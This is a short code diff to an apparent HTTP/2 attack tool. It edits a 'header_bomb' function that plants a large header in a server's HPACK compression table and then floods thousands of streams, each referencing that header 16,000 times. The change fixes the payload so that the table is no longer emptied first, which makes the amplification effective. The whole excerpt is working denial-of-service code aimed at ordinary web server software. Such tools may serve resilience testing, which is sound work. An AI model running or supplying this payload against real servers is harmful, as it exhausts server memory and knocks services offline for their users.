@@ -284,11 +284,12 @@ def large_continuation(attacker: Attacker) -> None:
 def header_bomb(attacker: Attacker) -> None:
     """A long header in the table of the peer, then header blocks that name it a thousand times."""
     plant = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000  # a literal of 127 + 33 + 30 * 128 bytes
-    first = frame(HEADERS, FIELDS + plant, flags=END_HEADERS, stream=1)
+    without_size = FIELDS.removeprefix(b"\x20")  # FIELDS would begin with emptying the table
+    first = frame(HEADERS, without_size + plant, flags=END_HEADERS, stream=1)
 
     def bombs(_: int) -> Iterator[bytes]:
         for stream in range(3, 20_000, 2):
-            yield opened(stream, FIELDS + b"\xbe" * 16_000)
+            yield opened(stream, b"\xbe" * 16_000)
 
     attacker.flood(HELLO + first, bombs)
 
